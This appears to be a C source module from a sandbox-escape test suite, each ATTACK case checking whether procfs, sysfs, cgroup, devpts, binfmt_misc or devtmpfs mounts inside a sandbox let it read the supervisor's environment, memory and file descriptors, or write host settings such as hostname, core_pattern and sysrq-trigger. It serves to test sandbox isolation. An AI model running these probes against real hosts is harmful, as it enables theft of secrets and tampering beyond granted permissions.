// File systems whose content is the kernel's or the reader's own: reached at another place than /proc and /sys, they show
// the supervisor, for it is the reader. And what our own /proc and /sys show.
#define CLASS "pseudo"
#include "attack.h"
#include <dirent.h>

static void readTree(const char *root) {
    static const char *names[] = {"self/environ",        "self/cmdline",    "self/mountinfo", "self/net/dev", "self/maps", "self/root/outside/secret",
                                  "thread-self/environ", "self/cwd/secret", "1/environ",      "sysvipc/shm",  "keys"};
    char text[4096];
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(text, sizeof text, "%s/%s", root, names[i]);
        leakPath(text);
    }
    int pids[] = {victim(), knowsNumber("SUPERVISOR"), knowsNumber("RUNNER")};
    for (int i = 0; i < 3; i++) {
        static const char *files[] = {"environ", "cmdline", "cwd/secret", "fd/50", "fd/51", "fd/52"};
        for (int n = 0; n < 6; n++) {
            snprintf(text, sizeof text, "%s/%d/%s", root, pids[i], files[n]);
            leakPath(text);
        }
        snprintf(text, sizeof text, "%s/%d/root%s", root, pids[i], out("secret")), leakPath(text);
        snprintf(text, sizeof text, "%s/%d/mem", root, pids[i]);
        char memory[64];
        int fd = open(text, O_RDONLY);
        if (pread(fd, memory, 64, VICTIM_ADDRESS) > 0) leak(memory, 64);
    }
    for (int fd = 0; fd < 64; fd++) {
        snprintf(text, sizeof text, "%s/self/fd/%d", root, fd);
        int file = open(text, O_RDONLY | O_NONBLOCK);
        if (file >= 0 && fd > 2) {
            leakFile(file);
            close(file);
        }
    }
    snprintf(text, sizeof text, "%s/sys/kernel/hostname", root);
    int fd = open(text, O_WRONLY);
    ssize_t w = write(fd, "escaped", 7);
    (void)w;
}
ATTACK(proc_in_lower, leak, MOUNT_PROC, "a procfs mounted below the root (a chroot's own /proc): environment, memory, descriptors of the supervisor") {
    readTree(in("/pseudo"));
}
ATTACK(proc_in_host_root, leak, MOUNT_PROC | HOST_ROOT, "the same where the host's root is shown") { readTree(in("/pseudo")); }
ATTACK_WITH(proc_bound, leak, MAY_BE_REFUSED, "--bind /proc:/pseudo:ro", "--bind /proc:/x:ro") { readTree(inside ? "/pseudo" : "/proc"); }
ATTACK_WITH(proc_bound_below, leak, MAY_BE_REFUSED, "--bind /proc/self:/pseudo:ro --bind /proc/1:/tmp:ro", "--bind of directories below /proc") {
    leakPath(inside ? "/pseudo/environ" : "/proc/self/environ"), leakPath("/tmp/environ"), leakPath("/pseudo/mountinfo"), leakPath("/pseudo/net/dev");
}
ATTACK_WITH(proc_as_lower, leak, MAY_BE_REFUSED, "--lower /proc", "--lower /proc") { readTree(inside ? "" : "/proc"); }
ATTACK_WITH(proc_bound_writable, change, MAY_BE_REFUSED | NATIVE_ROOT, "--bind /proc/sys:/pseudo",
            "--bind /proc/sys, writable: a host name by /proc/sys/kernel/hostname") {
    int fd = open(inside ? "/pseudo/kernel/hostname" : "/proc/sys/kernel/hostname", O_WRONLY);
    say("open", fd), say("write", write(fd, "escaped", 7));
}
ATTACK(sysfs_in_lower, leak, MOUNT_SYSFS, "a sysfs below the root: the host's interfaces") {
    DIR *d = opendir(in("/pseudo/class/net"));
    for (struct dirent *e; d && (e = readdir(d));) leakText(e->d_name);
    leakPath(in("/pseudo/kernel/notes"));
}
ATTACK_WITH(sysfs_bound, leak, MAY_BE_REFUSED, "--bind /sys:/pseudo:ro", "--bind /sys:/x:ro") {
    DIR *d = opendir(inside ? "/pseudo/class/net" : "/sys/class/net");
    for (struct dirent *e; d && (e = readdir(d));) leakText(e->d_name);
    if (!inside) leakPath("/proc/net/dev");
}
ATTACK(mqueue_in_lower, leak, MOUNT_MQUEUE, "an mqueue file system below the root: the host's queues; natively mq_receive") {
    char text[4096];
    snprintf(text, sizeof text, "/pseudo/%s", knows("NAME"));
    leakPath(in(text));
    if (!inside) {
        int q = open(in(text), O_RDONLY | O_NONBLOCK);
        char m[64];
        if (syscall(SYS_mq_timedreceive, q, m, 64, NULL, NULL) > 0) leak(m, 24);
    }
}
ATTACK(mqueue_changed, change, MOUNT_MQUEUE, "the same: unlink of a host's queue") {
    char text[4096];
    snprintf(text, sizeof text, "/pseudo/%s", knows("NAME"));
    say("unlink", unlink(in(text)));
}
ATTACK(cgroup_in_lower, change, MOUNT_CGROUP | NATIVE_ROOT,
       "a cgroup2 file system below the root: a group made, a process moved; natively a host name shows what counts") {
    say("mkdir", mkdir(in("/pseudo/escaped"), 0755));
    int fd = open(in("/pseudo/escaped/cgroup.procs"), O_WRONLY);
    char text[16];
    ssize_t w = write(fd, text, (size_t)snprintf(text, sizeof text, "%d", victim()));
    (void)w;
    if (!inside) rmdir(in("/pseudo/escaped")), sethostname("escaped", 7);
    struct stat s;
    say("cgroup.procs", stat(in("/pseudo/cgroup.procs"), &s));
}
ATTACK(devpts_in_lower, change, MOUNT_DEVPTS, "a devpts below the root: the caller's terminals by another name; natively by their own") {
    char text[4096];
    DIR *d = opendir(in("/pseudo"));
    for (struct dirent *e; d && (e = readdir(d));) {
        snprintf(text, sizeof text, "/pseudo/%s", e->d_name);
        int fd = open(in(text), O_RDWR | O_NOCTTY | O_NONBLOCK);
        if (fd >= 0) {
            ssize_t w = write(fd, "PTY-WRITTEN\n", 12);
            (void)w;
        }
    }
    if (!inside) {
        int fd = open(knows("TTY"), O_RDWR | O_NOCTTY);
        ssize_t w = write(fd, "PTY-WRITTEN\n", 12);
        (void)w;
    }
}
ATTACK(debugfs_in_lower, leak, MOUNT_DEBUGFS | NOT_ON_THIS_HOST, "a debugfs below the root; nothing of ours can be hidden in it") {
    DIR *d = opendir(in("/pseudo"));
    for (struct dirent *e; d && (e = readdir(d));) leakText(e->d_name);
}
ATTACK(binfmt_in_lower, change, MOUNT_BINFMT | NOT_ON_THIS_HOST | ROOT_CALLER, "a binfmt_misc below the root: an interpreter for the whole machine") {
    int fd = open(in("/pseudo/register"), O_WRONLY);
    say("open", fd), say("write", write(fd, ":escape:M::ESCAPE::/bin/false:", 30));
}
ATTACK_WITH(devtmpfs_bound, leak, MAY_BE_REFUSED | ROOT_CALLER | NATIVE_ROOT, "--bind /dev:/pseudo:ro",
            "--bind /dev:/x:ro: the block device that holds a secret") {
    const char *loop = knows("LOOP");
    char text[256];
    snprintf(text, sizeof text, "%s%s", inside ? "/pseudo" : "/dev", *loop ? strrchr(loop, '/') : "/none");
    leakPath(text);
}
ATTACK(own_proc, leak, 0, "our own /proc and /sys, each file of two levels: secrets of the host; natively those of its processes") {
    DIR *d = opendir("/proc");
    char text[1024];
    for (struct dirent *e; d && (e = readdir(d));) {
        if (strcmp(e->d_name, "kmsg") == 0 || strcmp(e->d_name, "kcore") == 0 || strstr(e->d_name, "page")) continue;
        snprintf(text, sizeof text, "/proc/%s", e->d_name), leakPath(text);
        if (e->d_type != DT_DIR) continue;
        DIR *below = opendir(text);
        for (struct dirent *f; below && (f = readdir(below));) {
            char path[1536];
            snprintf(path, sizeof path, "%s/%s", text, f->d_name);
            if (f->d_type == DT_REG) leakPath(path);
        }
        if (below) closedir(below);
    }
}
ATTACK(own_sys, leak, 0, "our own /sys: the host's interfaces; natively by /proc/net") {
    DIR *d = opendir("/sys/class/net");
    for (struct dirent *e; d && (e = readdir(d));) leakText(e->d_name);
    if (!inside) leakPath("/proc/net/dev");
}
ATTACK(proc_sys_written, change, NATIVE_ROOT, "/proc/sys, /proc/sysrq-trigger, core_pattern and /sys written to") {
    int fd = open("/proc/sys/kernel/hostname", O_WRONLY);
    say("hostname", fd), say("write", write(fd, "escaped", 7));
    if (inside) {
        const char *files[] = {"/proc/sysrq-trigger",       "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
                               "/sys/kernel/uevent_helper", "/proc/self/oom_score_adj",      "/proc/sys/vm/drop_caches"};
        for (int i = 0; i < 6; i++) {
            fd = open(files[i], O_WRONLY);
            say(files[i], fd), say("write", write(fd, "", 0));
        }
    }
}
ATTACK(map_files, leak, 0,
       "/proc/self/map_files and /proc/self/exe of ours: the host's program or the trampoline by another way; natively /proc of the victim") {
    DIR *d = opendir("/proc/self/map_files");
    char text[512], target[512];
    for (struct dirent *e; d && (e = readdir(d));) {
        snprintf(text, sizeof text, "/proc/self/map_files/%s", e->d_name);
        ssize_t n = readlink(text, target, sizeof target);
        if (n > 0) leak(target, (size_t)n);
        int fd = open(text, O_RDWR);
        if (fd >= 0 && inside) deface(fd);
    }
    snprintf(text, sizeof text, "/proc/%d/fd/%d", victim(), VICTIM_MEMFD), leakPath(text);
}
